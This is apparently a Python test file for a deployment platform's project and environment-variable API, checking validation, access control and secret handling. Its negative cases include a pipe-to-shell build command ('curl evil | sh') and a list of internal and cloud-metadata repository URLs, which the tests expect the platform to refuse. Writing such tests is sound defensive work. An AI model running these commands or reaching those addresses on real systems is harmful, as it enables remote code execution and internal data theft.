from __future__ import annotations

import socket
from typing import Any

import pytest

from shared.accounts.permissions import Role
from shared.db.database import Database
from shared.deployments.state import Stage
from shared.errors import PlatformError
from shared.plans import Plan, limits_of
from shared.projects.variable_repository import VariableRepository
from shared.projects.variable_service import ProjectVariable, Rotation, VariableService
from shared.secrets_box import SecretsBox
from shared.settings import NetworkSettings


def fields_of(response: Any) -> set[str]:
    return {field["field"] for field in response.json()["error"]["details"]["fields"]}


def test_a_project_is_made_read_changed_and_deleted(account) -> None:
    created = account.request("POST", "/api/projects", json={"name": "Café Site"})
    project = created.json()["data"]
    assert created.status_code == 201
    assert created.headers["location"] == f"/api/projects/{project['id']}"
    assert project["slug"] == "cafe-site"
    assert project["url"] == "http://cafe-site.localhost:8080"

    assert account.request("GET", f"/api/projects/{project['id']}").json()["data"] == project
    assert account.request("GET", "/api/projects/by-slug/cafe-site").json()["data"]["id"] == project["id"]
    changed = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildCommand": "npm run build"})
    assert changed.json()["data"]["buildCommand"] == "npm run build"
    assert changed.json()["data"]["name"] == "Café Site"
    cleared = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildCommand": None})
    assert cleared.json()["data"]["buildCommand"] is None

    assert account.request("DELETE", f"/api/projects/{project['id']}").status_code == 202
    assert account.request("GET", f"/api/projects/{project['id']}").status_code == 404
    assert account.request("GET", "/api/projects").json()["data"] == []
    assert account.platform.backends.queue.find(f"cleanup:{project['id']}") == "ready"


def test_a_project_follows_the_default_branch_unless_it_names_one(account) -> None:
    address = {"repositoryUrl": "https://git.example.org/a.git"}
    project = account.request("POST", "/api/projects", json={"name": "Site", **address}).json()["data"]
    assert (project["repositoryBranch"], project["defaultBranch"]) == (None, None)
    path = f"/api/projects/{project['id']}"

    def deploy(**body: object) -> str | None:
        body = {"projectId": project["id"], **body}
        return account.request("POST", "/api/deployments", json=body).json()["data"]["branch"]

    assert (deploy(), deploy(branch="topic")) == (None, "topic")
    named = account.request("PATCH", path, json={"repositoryBranch": "release"}).json()["data"]
    assert (named["repositoryBranch"], deploy()) == ("release", "release")
    assert account.request("PATCH", path, json={"buildCommand": None}).json()["data"]["repositoryBranch"] == "release"
    again = account.request("PATCH", path, json={"repositoryBranch": None}).json()["data"]
    assert (again["repositoryBranch"], deploy()) == (None, None)
    made = account.request("POST", "/api/projects", json={"name": "Named", "repositoryBranch": "main"}).json()["data"]
    assert made["repositoryBranch"] == "main"


def test_another_repository_has_another_default_branch(account) -> None:
    address = "https://git.example.org/a.git"
    project = account.request("POST", "/api/projects", json={"name": "Site", "repositoryUrl": address}).json()["data"]
    path = f"/api/projects/{project['id']}"
    with account.platform.backends.database.transaction() as connection:
        connection.execute("UPDATE projects SET default_branch = 'trunk'")
    for sent, seen in ((address, "trunk"), ("https://git.example.org/b.git", None)):
        changed = account.request("PATCH", path, json={"repositoryUrl": sent}).json()["data"]
        assert changed["defaultBranch"] == seen


def test_a_network_for_builds_is_refused_where_projects_have_no_choice(account) -> None:
    body = {"name": "Site", "buildNetwork": "filtered"}
    response = account.request("POST", "/api/projects", json=body)
    assert (response.status_code, fields_of(response)) == (422, {"buildNetwork"})
    assert "CLOUDIFY_BUILD_NETWORK_CHOICE=true" in response.text
    project = account.request("POST", "/api/projects", json=body | {"buildNetwork": None}).json()["data"]
    for value in ("filtered", "none"):
        changed = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildNetwork": value})
        assert (changed.status_code, fields_of(changed)) == (422, {"buildNetwork"})
    # One that was chosen earlier can be taken back.
    unset = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildNetwork": None})
    assert unset.json()["data"]["buildNetwork"] is None


@pytest.mark.parametrize("settings", [NetworkSettings(build_network_choice=True)], indirect=True)
def test_a_network_for_builds_is_chosen_by_the_project(account) -> None:
    address = "https://git.example.org/a.git"
    body = {"name": "Site", "buildNetwork": "filtered", "repositoryUrl": address}
    project = account.request("POST", "/api/projects", json=body).json()["data"]
    assert project["buildNetwork"] == "filtered"
    account.request("POST", "/api/deployments", json={"projectId": project["id"]})
    query = "SELECT settings ->> 'build_network' FROM deployments"
    assert account.platform.backends.database.fetch_value(str, query) == "filtered"
    for value in ("none", None):
        changed = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildNetwork": value})
        assert changed.json()["data"]["buildNetwork"] == value
    wrong = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildNetwork": "all"})
    assert (wrong.status_code, fields_of(wrong)) == (422, {"buildNetwork"})


def test_a_project_says_whether_it_is_an_application(account, database: Database) -> None:
    repository = {"repositoryUrl": "https://git.example.com/a.git"}
    project = account.request("POST", "/api/projects", json={"name": "a", "isApplication": False, **repository}).json()
    identifier = project["data"]["id"]
    assert project["data"]["isApplication"] is False
    assert account.request("POST", "/api/projects", json={"name": "b"}).json()["data"]["isApplication"] is None
    for value in (True, None):
        changed = account.request("PATCH", f"/api/projects/{identifier}", json={"isApplication": value})
        assert changed.json()["data"]["isApplication"] is value
    account.request("PATCH", f"/api/projects/{identifier}", json={"isApplication": True})
    made = account.request("POST", "/api/deployments", json={"projectId": identifier}).json()["data"]
    assert made["warnings"] == []
    query = "SELECT settings FROM deployments WHERE id = %(id)s"
    settings = database.fetch_value(dict[str, Any], query, {"id": made["id"]})
    assert settings is not None
    assert settings["is_application"] is True
    wrong = account.request("PATCH", f"/api/projects/{identifier}", json={"isApplication": "yes"})
    assert fields_of(wrong) == {"isApplication"}


def test_every_wrong_field_is_named(account) -> None:
    body = {
        "name": "",
        "slug": "Not A Slug",
        "repositoryUrl": "ftp://example.com/x",
        "repositoryBranch": "a..b",
        "rootDirectory": "../up",
        "outputDirectory": "/etc",
        "nodeVersion": "newest",
        "buildCommand": "curl evil | sh",
    }
    response = account.request("POST", "/api/projects", json=body)
    assert response.status_code == 422
    assert fields_of(response) == set(body)


def test_every_field_of_a_wrong_type_is_named(account) -> None:
    response = account.request("POST", "/api/projects", json={"slug": 3, "buildCommand": [], "colour": "red"})
    assert response.status_code == 422
    assert fields_of(response) == {"name", "slug", "buildCommand", "colour"}


def test_slugs_are_numbered_and_explicit_ones_refused(account) -> None:
    slugs = [account.project("My Site")["slug"] for _ in range(3)]
    assert slugs == ["my-site", "my-site-2", "my-site-3"]
    taken = account.request("POST", "/api/projects", json={"name": "x", "slug": "my-site"})
    assert (taken.status_code, taken.json()["error"]["code"]) == (409, "SLUG_TAKEN")
    reserved = account.request("POST", "/api/projects", json={"name": "x", "slug": "api"})
    assert reserved.status_code == 422
    assert account.request("POST", "/api/projects", json={"name": "API"}).json()["data"]["slug"] == "api-2"


def test_credentials_of_a_repository_are_not_shown(account) -> None:
    body = {"name": "x", "repositoryUrl": "https://user:hunter2secret@git.example.com/team/site.git"}
    response = account.request("POST", "/api/projects", json=body)
    assert response.status_code == 201
    assert "hunter2secret" not in response.text


LOCAL = (
    "file:///srv/git/x", "http://git.example.com/x", "https://10.0.0.1/x", "ssh://git@[::ffff:0:127.0.0.1]/x",
    "https://localhost/x", "https://127.1/x", "git@169.254.169.254:x",
)  # fmt: skip


def test_local_repositories_are_refused(account) -> None:
    project = account.project()["id"]
    for url in LOCAL:
        for method, path in (("POST", "/api/projects"), ("PATCH", f"/api/projects/{project}")):
            response = account.request(method, path, json={"name": "x", "repositoryUrl": url})
            assert (response.status_code, response.json()["error"]["code"]) == (422, "URL_FORBIDDEN"), url


def test_no_name_is_resolved_in_a_request(account, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []
    ask = socket.getaddrinfo

    def getaddrinfo(host: Any, *arguments: Any, **options: Any) -> Any:
        asked.append(host)
        return ask(host, *arguments, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    body = {"name": "x", "repositoryUrl": "https://slow.example.com/x"}
    assert account.request("POST", "/api/projects", json=body).status_code == 201
    assert "slow.example.com" not in asked


def _setter(account: Any, project_id: str) -> Any:
    return account.platform.backends.database.fetch_value(
        str, "SELECT repository_set_by FROM projects WHERE id = %(id)s", {"id": project_id}
    )


def test_files_are_for_platform_administrators_even_in_projects_of_others(account, register) -> None:
    administrator = register("root@example.com")
    with account.platform.backends.database.transaction() as connection:
        connection.execute("UPDATE users SET is_platform_administrator = true WHERE id = %s", [administrator.user_id])
    made = administrator.request("POST", "/api/projects", json={"name": "x", "repositoryUrl": "file:///srv/x"})
    assert made.status_code == 201, made.text
    # An owner of the administrator's own tenant can't set it, but may change everything else.
    account.join(administrator, Role.OWNER)
    path = f"/api/projects/{made.json()['data']['id']}"
    refused = account.request("PATCH", path, json={"repositoryUrl": "file:///root/secret"})
    assert (refused.status_code, refused.json()["error"]["code"]) == (422, "URL_FORBIDDEN")
    assert account.request("PATCH", path, json={"name": "y"}).status_code == 200
    assert _setter(account, made.json()["data"]["id"]) == administrator.user_id
    assert account.request("PATCH", path, json={"repositoryUrl": "https://git.example.com/x"}).status_code == 200
    assert _setter(account, made.json()["data"]["id"]) is None


@pytest.mark.parametrize(
    ("scopes", "status"),
    [([], 200), (["admin:write"], 200), (["admin:read"], 422), (["deploy:create"], 422)],
)
def test_a_token_sets_files_only_with_the_administrators_rights(account, scopes: list[str], status: int) -> None:
    with account.platform.backends.database.transaction() as connection:
        connection.execute("UPDATE users SET is_platform_administrator = true WHERE id = %s", [account.user_id])
    path = f"/api/projects/{account.project()['id']}"
    body = {"name": "t", "scopes": [*scopes, "project:write", "project:settings"] if scopes else []}
    token = account.request("POST", "/api/auth/tokens", json=body).json()["data"]["token"]
    headers = {"Authorization": f"Bearer {token}"}
    files = {"name": "x", "repositoryUrl": "file:///root/private"}
    answers = [account.request("PATCH", path, json=files, headers=headers)]
    answers.append(account.request("POST", "/api/projects", json=files, headers=headers))
    assert [answer.status_code for answer in answers] == [status, 201 if status == 200 else 422]
    public = {"repositoryUrl": "https://git.example.com/x"}
    assert account.request("PATCH", path, json=public, headers=headers).status_code == 200
    assert _setter(account, path.rpartition("/")[2]) == (account.user_id if status == 200 else None)


def test_addresses_are_judged_by_form_and_names_are_not_resolved(account, monkeypatch) -> None:
    for host in ("127.0.0.1", "10.0.0.1", "[::1]", "2130706433", "localhost", "169.254.169.254"):
        body = {"name": "x", "repositoryUrl": f"https://{host}/x.git"}
        response = account.request("POST", "/api/projects", json=body)
        assert (response.status_code, response.json()["error"]["code"]) == (422, "URL_FORBIDDEN"), host
    project = account.project()
    resolved: list[object] = []
    real = socket.getaddrinfo

    def record(host: Any, *arguments: Any, **options: Any) -> Any:
        if not options.get("flags", 0) & socket.AI_NUMERICHOST:
            resolved.append(host)
        return real(host, *arguments, **options)

    monkeypatch.setattr(socket, "getaddrinfo", record)
    body = {"name": "y", "repositoryUrl": "https://git.unanswered.example/x.git"}
    assert account.request("PATCH", f"/api/projects/{project['id']}", json=body).status_code == 200
    assert account.request("POST", "/api/projects", json=body).status_code == 201
    assert "git.unanswered.example" not in resolved


def test_the_plan_bounds_the_number_of_projects(account) -> None:
    maximum = limits_of(Plan.FREE).maximum_projects
    with account.platform.backends.database.transaction() as connection:
        connection.execute(
            "INSERT INTO projects (id, tenant_id, name, slug) "
            "SELECT 'proj_' || n, %(tenant_id)s, 'p', 'p-' || n FROM generate_series(1, %(maximum)s) n",
            {"tenant_id": account.tenant_id, "maximum": maximum},
        )
    response = account.request("POST", "/api/projects", json={"name": "one more"})
    assert (response.status_code, response.json()["error"]["code"]) == (402, "PLAN_LIMIT")
    account.platform.services.accounts.set_plan("ada@example.com", Plan.PRO)
    assert account.request("POST", "/api/projects", json={"name": "one more"}).status_code == 201


def test_variables_are_written_and_never_read_back(account) -> None:
    project_id = account.project()["id"]
    path = f"/api/projects/{project_id}/env"
    put = account.request("PUT", f"{path}/API_KEY", json={"value": "s3cret-välue", "targets": ["production"]})
    assert put.status_code == 200
    account.request("PUT", f"{path}/MODE", json={"value": ""})
    listed = account.request("GET", path)
    assert [variable["key"] for variable in listed.json()["data"]] == ["API_KEY", "MODE"]
    assert "s3cret" not in listed.text + put.text
    variables = account.platform.services.variables
    opened = [ProjectVariable("API_KEY", "s3cret-välue"), ProjectVariable("MODE", "")]
    assert variables.decrypt_for(project_id, "production") == opened
    assert variables.decrypt_for(project_id, "preview") == opened[1:]
    [ciphertext] = account.platform.backends.database.fetch_values(
        bytes, "SELECT ciphertext FROM environment_variables WHERE key = 'API_KEY'"
    )
    assert b"s3cret" not in ciphertext

    assert account.request("DELETE", f"{path}/MODE").status_code == 204
    assert account.request("DELETE", f"{path}/MODE").status_code == 404


def test_an_install_sees_only_the_variables_that_are_for_it(account) -> None:
    project_id = account.project()["id"]
    path = f"/api/projects/{project_id}/env"
    put = account.request("PUT", f"{path}/NPM_TOKEN", json={"value": "t", "stages": ["install", "install"]})
    assert put.json()["data"]["stages"] == ["install"]
    account.request("PUT", f"{path}/SITE_NAME", json={"value": "s"})
    assert [variable["stages"] for variable in account.request("GET", path).json()["data"]] == [["install"], ["build"]]
    opened = account.platform.services.variables.decrypt_for(project_id, "preview")
    assert [variable.stages for variable in opened] == [{Stage.INSTALL}, {Stage.BUILD}]
    account.request("PUT", f"{path}/NPM_TOKEN", json={"value": "t"})
    assert account.request("GET", path).json()["data"][0]["stages"] == ["build"]
    for stages in ([], ["deploy"]):
        refused = account.request("PUT", f"{path}/NPM_TOKEN", json={"value": "t", "stages": stages})
        assert refused.status_code == 422
        assert "install, build" in refused.text


def test_only_what_is_for_development_alone_can_be_pulled(account) -> None:
    project_id = account.project()["id"]
    path = f"/api/projects/{project_id}/env"
    account.request("PUT", f"{path}/LOCAL", json={"value": "http://localhost:3000", "targets": ["development"]})
    account.request("PUT", f"{path}/SHARED", json={"value": "s3cret", "targets": ["development", "production"]})
    account.request("PUT", f"{path}/LIVE", json={"value": "s3cret", "targets": ["production"]})
    pulled = account.request("GET", f"{path}/for-development")
    assert pulled.json()["data"] == {"variables": {"LOCAL": "http://localhost:3000"}, "withheld": ["SHARED"]}
    assert "s3cret" not in pulled.text


def test_rotation_wraps_again_and_leaves_the_values(account, settings) -> None:
    project_id = account.project()["id"]
    for name in ("A", "B"):
        account.request("PUT", f"/api/projects/{project_id}/env/{name}", json={"value": f"value {name}"})
    database = account.platform.backends.database
    [(old, key)] = settings.secrets.encryption_keys.items()

    def service(**keys: bytes) -> VariableService:
        return VariableService(database=database, variables=VariableRepository(database), box=SecretsBox(keys))

    before = database.fetch_values(bytes, "SELECT ciphertext FROM environment_variables ORDER BY key")
    # The old key is lost: nothing is changed, and what is concerned is named.
    lost = service(new=b"n" * 32).rotate_keys()
    assert (lost.rewrapped, len(lost.unreadable)) == (0, 2)
    with pytest.raises(PlatformError, match=rf"variable A can't be read.*'{old}' is not in CLOUDIFY_ENCRYPTION_KEYS"):
        service(new=b"n" * 32).decrypt_for(project_id, "production")
    assert service(**{"new": b"n" * 32, old: key}).rotate_keys() == Rotation(2, ())
    assert service(**{"new": b"n" * 32, old: key}).rotate_keys() == Rotation(0, ())
    # Without the old key from now on.
    opened = [ProjectVariable("A", "value A"), ProjectVariable("B", "value B")]
    assert service(new=b"n" * 32).decrypt_for(project_id, "preview") == opened
    after = database.fetch_values(bytes, "SELECT ciphertext FROM environment_variables ORDER BY key")
    assert after == before


REFUSED_VARIABLES: list[tuple[str, dict[str, Any], str]] = [
    ("1X", {"value": "x"}, "key"),
    ("A-B", {"value": "x"}, "key"),
    ("PATH", {"value": "x"}, "key"),
    ("CLOUDIFY_URL", {"value": "x"}, "key"),
    ("X", {"value": "x" * 65_537}, "value"),
    ("X", {"value": "x", "targets": []}, "targets"),
    ("X", {"value": "x", "targets": ["staging"]}, "targets"),
]


def test_variables_that_are_refused(account) -> None:
    project_id = account.project()["id"]
    for key, body, field in REFUSED_VARIABLES:
        response = account.request("PUT", f"/api/projects/{project_id}/env/{key}", json=body)
        assert response.status_code == 422
        assert fields_of(response) == {field}


def test_a_value_whose_key_is_lost_is_named(account) -> None:
    path = f"/api/projects/{account.project()['id']}/env"
    account.request("PUT", f"{path}/LOCAL", json={"value": "x", "targets": ["development"]})
    with account.platform.backends.database.transaction() as connection:
        connection.execute("UPDATE environment_variables SET key_id = 'lost'")
    refused = account.request("GET", f"{path}/for-development")
    assert refused.status_code == 503
    assert "The variable LOCAL can't be read" in refused.json()["error"]["message"]


def test_variables_with_which_no_program_starts_are_refused(account) -> None:
    path = f"/api/projects/{account.project()['id']}/env"
    for number in range(15):
        assert account.request("PUT", f"{path}/X{number}", json={"value": "x" * 65_536}).is_success
    refused = account.request("PUT", f"{path}/Y", json={"value": "y" * 65_536})
    assert (refused.status_code, "1 MiB" in refused.json()["error"]["message"]) == (409, True)
    # One that takes another's place counts once.
    assert account.request("PUT", f"{path}/X0", json={"value": "z" * 65_536}).is_success
    assert account.request("PUT", f"{path}/Y", json={"value": "y"}).is_success


def test_a_foreign_project_is_not_found_and_a_readable_one_forbidden(account, register) -> None:
    project_id = account.project()["id"]
    eve = register("eve@example.com")
    assert eve.request("GET", f"/api/projects/{project_id}").status_code == 404
    assert eve.request("DELETE", f"/api/projects/{project_id}").status_code == 404
    assert eve.request("GET", "/api/projects/by-slug/site").status_code == 404
    eve.join(account, Role.VIEWER)
    assert eve.request("GET", f"/api/projects/{project_id}").status_code == 200
    refused = eve.request("DELETE", f"/api/projects/{project_id}")
    assert refused.status_code == 403
    assert refused.json()["error"]["details"] == {"permission": "project:delete", "role": "VIEWER"}
